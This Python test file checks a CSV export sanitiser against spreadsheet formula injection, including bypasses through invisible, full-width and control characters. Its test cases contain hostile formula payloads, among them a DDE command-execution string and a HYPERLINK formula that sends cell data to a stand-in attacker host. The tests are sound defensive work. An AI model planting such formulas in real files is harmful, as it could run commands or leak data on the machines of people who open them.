"""CSV that a spreadsheet opens without running anything in it, and that other programs read as it was meant."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from runner.cli.spreadsheet import harmless, line


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("https://evil.example/?"&A1,"open")', '\'=HYPERLINK("https://evil.example/?"&A1,"open")'),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("\tplain", "'\tplain"),
        ("\rplain", "'\rplain"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b\u3000@x", "'\u200b\u3000@x"),
        ('"=1', "'\"=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("a mug;=1+1", "a mug;'=1+1"),
        ("a mug; -1", "a mug; '-1"),
        ('a mug;"=1"', 'a mug;"\'=1"'),
        ("a mug\n=1", "a mug\n'=1"),
        ("a mug\r\n\t @x", "a mug\r\n\t '@x"),
        ("a mug\t+1", "a mug\t'+1"),
        ("\x00=1", "\ufffd=1"),
        ("a\x1b[2Jb\x7f\x9b", "a\ufffd[2Jb\ufffd\ufffd"),
        ("a mug - blue = 50% + @home", "a mug - blue = 50% + @home"),
        ("a mug, seen from above; soft light", "a mug, seen from above; soft light"),
        ("two\nlines", "two\nlines"),
        ("'quoted'", "'quoted'"),
        ("Größe 東京", "Größe 東京"),
        ("", ""),
    ],
)
def test_text_that_would_run_as_a_formula_is_marked_as_text(text: str, cell: str) -> None:
    """The known ways in: signs, blanks and invisible characters before them, full width, other separators."""
    assert harmless(text) == cell


SHARP = st.text(st.sampled_from(" =+-@＝;\t\r\n\"',a\x00\ufeff\u200b") | st.characters(codec="utf-8"), max_size=30)


@given(SHARP)
@example("=")
@example("a\n\n \r=")
@example(";=")
@example("\t =")
def test_no_text_starts_a_formula_wherever_a_cell_may_start(text: str) -> None:
    """By whatever a spreadsheet splits, no piece begins with a sign; and text without such a piece stays as it is."""
    pieces = re.split(r"[;\t\r\n]", harmless(text))
    starts = [piece.lstrip(' "\ufeff\u200b\u200c\u200d\u200e\u200f\u2060\u00a0\u3000') for piece in pieces]
    assert not any(start.startswith(tuple("=+-@＝＋－＠")) for start in starts)
    assert harmless(text).replace("'", "") == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "\ufffd", text).replace(
        "'", ""
    )


@given(st.lists(SHARP, min_size=2, max_size=5))
def test_a_line_is_read_back_by_the_csv_module(cells: list[str]) -> None:
    """Quotes, commas and line breaks come through: RFC 4180, lines that end in CRLF."""
    data = line(cells)
    assert data.endswith(b"\r\n")
    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [[harmless(cell) for cell in cells]]


def test_numbers_stay_numbers() -> None:
    """What can be summed is written without quotes, marks or exponents; nothing is an empty cell."""
    assert line([1, 0.0045, 4.5e-07, Decimal("0.5"), None, True, False]) == b"1,0.0045,0.00000045,0.5,,true,false\r\n"


def test_a_long_run_of_blanks_does_not_hang() -> None:
    """A prompt from elsewhere cannot keep an export busy for ever: the work grows with the text."""
    text = "\n" * 2_000_000 + "a" + " ;" * 1_000_000 + "a"
    assert harmless(text) == f"'{text}"
